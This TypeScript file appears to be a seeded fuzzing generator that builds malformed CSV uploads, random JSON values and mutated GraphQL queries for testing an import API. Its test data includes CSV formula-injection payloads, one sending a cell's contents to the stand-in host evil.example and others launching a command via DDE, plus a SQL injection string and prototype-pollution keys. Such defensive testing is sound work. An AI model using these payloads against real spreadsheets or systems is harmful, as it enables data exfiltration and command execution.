import { integerBetween, pick } from "./seeded-random";

export interface CsvCase {
  label: string;
  kind: "CUSTOMERS" | "ORDERS" | "EVENTS";
  bytes: Buffer;
}

export const formulaCells = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
];

const headers = {
  CUSTOMERS: "external_id,email,name,income,signup_date,marketing_consent",
  ORDERS: "order_id,customer_id,ordered_at,sku,quantity,unit_price",
  EVENTS: "customer_id,type,occurred_at,properties",
} as const;

function validRow(random: () => number, kind: CsvCase["kind"], index: number): string[] {
  switch (kind) {
    case "CUSTOMERS":
      return [
        `bad-${index}`,
        `bad${index}@example.com`,
        `Name ${index}`,
        String(integerBetween(random, 0, 90000)),
        "2023-05-01",
        "yes",
      ];
    case "ORDERS":
      return [
        `bo-${index}`,
        `bad-${index % 5}`,
        "2024-01-02",
        `SKU-${index % 7}`,
        String(integerBetween(random, 1, 5)),
        "9.99",
      ];
    case "EVENTS":
      return [`bad-${index % 5}`, "view", "2024-01-02T10:00:00Z", '"{""page"":""/""}"'];
  }
}

/** One way of breaking a file; each takes valid rows and returns the bytes of a malformed file. */
const breakers: {
  label: string;
  apply: (random: () => number, kind: CsvCase["kind"], rows: string[][]) => Buffer;
}[] = [
  {
    label: "unterminated quote",
    apply: (_, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => row.join(",")).join("\n")}\n"open,${rows[0].slice(1).join(",")}\n`,
      ),
  },
  {
    label: "quote inside a bare field",
    apply: (_, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row, index) => (index === 0 ? [`a"b"c`, ...row.slice(1)] : row).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "UTF-16LE with BOM",
    apply: (_, kind, rows) =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(`${headers[kind]}\n${rows.map((row) => row.join(",")).join("\n")}\n`, "utf16le"),
      ]),
  },
  {
    label: "UTF-16LE without BOM",
    apply: (_, kind, rows) =>
      Buffer.from(`${headers[kind]}\n${rows.map((row) => row.join(",")).join("\n")}\n`, "utf16le"),
  },
  {
    label: "UTF-8 BOM (valid)",
    apply: (_, kind, rows) =>
      Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(`${headers[kind]}\n${rows.map((row) => row.join(",")).join("\n")}\n`),
      ]),
  },
  {
    label: "Latin-1 bytes",
    apply: (_, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows
          .map((row) => row.join(","))
          .join("\n")
          .replace(/Name/g, "Ren\u00e9e Mu\u00f1oz")}\n`,
        "latin1",
      ),
  },
  {
    label: "huge field",
    apply: (random, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row, index) => (index === 0 ? [row[0], "x".repeat(integerBetween(random, 100_000, 3_000_000)), ...row.slice(2)] : row).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "formula cells",
    apply: (random, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => row.map((cell, index) => (index > 0 && random() < 0.4 ? `"${pick(random, formulaCells).replace(/"/g, '""')}"` : cell)).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "wrong types",
    apply: (random, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => row.map((cell, index) => (index > 1 && random() < 0.5 ? pick(random, ["abc", "12,5", "NaN", "true", "{}", "2023-13-45", "1e999", ""]) : cell)).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "negative quantities and prices",
    apply: (random, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => (kind === "ORDERS" ? [...row.slice(0, 4), String(-integerBetween(random, 1, 9)), "-4.50"] : kind === "CUSTOMERS" ? [...row.slice(0, 3), "-100", ...row.slice(4)] : row).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "future dates",
    apply: (_, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => row.map((cell) => (/^\d{4}-\d\d-\d\d/.test(cell) ? cell.replace(/^\d{4}/, "2199") : cell)).join(",")).join("\n")}\n`,
      ),
  },
  {
    label: "duplicate ids",
    apply: (_, kind, rows) =>
      Buffer.from(`${headers[kind]}\n${[...rows, ...rows].map((row) => row.join(",")).join("\n")}\n`),
  },
  {
    label: "ragged rows",
    apply: (random, kind, rows) =>
      Buffer.from(
        `${headers[kind]}\n${rows.map((row) => row.slice(0, integerBetween(random, 1, row.length + 3)).join(",")).join("\n")}\n`,
      ),
  },
  { label: "empty file", apply: () => Buffer.alloc(0) },
  { label: "header only", apply: (_, kind) => Buffer.from(`${headers[kind]}\n`) },
  {
    label: "binary garbage",
    apply: (random) =>
      Buffer.from(
        Array.from({ length: integerBetween(random, 1, 4096) }, () => integerBetween(random, 0, 255)),
      ),
  },
  {
    label: "NUL bytes and control characters",
    apply: (_, kind, rows) =>
      Buffer.from(`${headers[kind]}\n${rows.map((row) => row.join(",\u0000\u0007")).join("\n")}\n`),
  },
  {
    label: "no required column",
    apply: (_, __, rows) =>
      Buffer.from(`foo,bar\n${rows.map((row) => row.slice(0, 2).join(",")).join("\n")}\n`),
  },
];

/** `count` malformed CSV files, the same ones for the same seed. */
export function generateCsvCases(random: () => number, count: number): CsvCase[] {
  return Array.from({ length: count }, (_, index) => {
    const kind = pick(random, ["CUSTOMERS", "ORDERS", "EVENTS"] as const);
    const breaker = breakers[index % breakers.length];
    const rows = Array.from({ length: integerBetween(random, 1, 12) }, (_, row) =>
      validRow(random, kind, index * 100 + row),
    );
    return { label: `${breaker.label} (${kind})`, kind, bytes: breaker.apply(random, kind, rows) };
  });
}

/** A random JSON value of a random type, to send where the schema expects something else. */
export function randomValue(random: () => number, depth = 0): unknown {
  switch (integerBetween(random, 0, depth > 2 ? 6 : 9)) {
    case 0:
      return null;
    case 1:
      return integerBetween(random, -(2 ** 40), 2 ** 40);
    case 2:
      return pick(random, [-1, 0, 1e308, -1e-308, 2 ** 31, -(2 ** 31) - 1, 0.5]);
    case 3:
      return pick(random, [
        "",
        "x",
        "2199-01-01T00:00:00Z",
        "not-a-date",
        "00000000-0000-4000-8000-000000000000",
        "' OR 1=1 --",
        '=HYPERLINK("x")',
        "\u0000",
        "😀".repeat(50),
      ]);
    case 4:
      return "y".repeat(integerBetween(random, 1_000, 200_000));
    case 5:
      return random() < 0.5;
    case 6:
      return pick(random, ["customers:read", "OWNER", "EMAIL", "STANDARD", "view"]);
    case 7:
      return Array.from({ length: integerBetween(random, 0, 4) }, () => randomValue(random, depth + 1));
    default:
      return Object.fromEntries(
        Array.from({ length: integerBetween(random, 0, 4) }, () => [
          pick(random, [
            "name",
            "externalId",
            "quantity",
            "lines",
            "k",
            "first",
            "x",
            "__proto__",
            "constructor",
          ]),
          randomValue(random, depth + 1),
        ]),
      );
  }
}

const fragments = [
  "{",
  "}",
  "(",
  ")",
  "query",
  "mutation",
  "subscription",
  "fragment",
  "on",
  "...",
  "$x",
  ":",
  "!",
  "[",
  "]",
  "=",
  "@include",
  "@skip(if: true)",
  "customers",
  "first: 5",
  "nodes",
  "id",
  "__schema",
  "__typename",
  '"str"',
  '"""block"""',
  "123",
  "-1.5e3",
  "#comment\n",
  ",",
  "null",
  "true",
  "login",
  "health { ok }",
  "segments",
  "\u0000",
  "ü",
  "\\u0041",
];

/** A random GraphQL document: valid documents with mutated pieces, or token soup. */
export function randomDocument(random: () => number, validDocuments: readonly string[]): string {
  const base = pick(random, validDocuments);
  switch (integerBetween(random, 0, 4)) {
    case 0:
      return Array.from({ length: integerBetween(random, 1, 40) }, () => pick(random, fragments)).join(" ");
    case 1: {
      const cut = integerBetween(random, 0, base.length);
      return base.slice(0, cut) + pick(random, fragments) + base.slice(cut + integerBetween(random, 0, 5));
    }
    case 2:
      return base.replace(
        /__typename/,
        pick(random, ["nope", "__schema { types { name } }", "id id id", "...F", "edges { node { id } }"]),
      );
    case 3:
      return `${base} ${pick(random, ["query Other { health { ok } }", "fragment F on Query { health { ok } }", "{", "}", "query Probe { me { role } }"])}`;
    default:
      return base;
  }
}
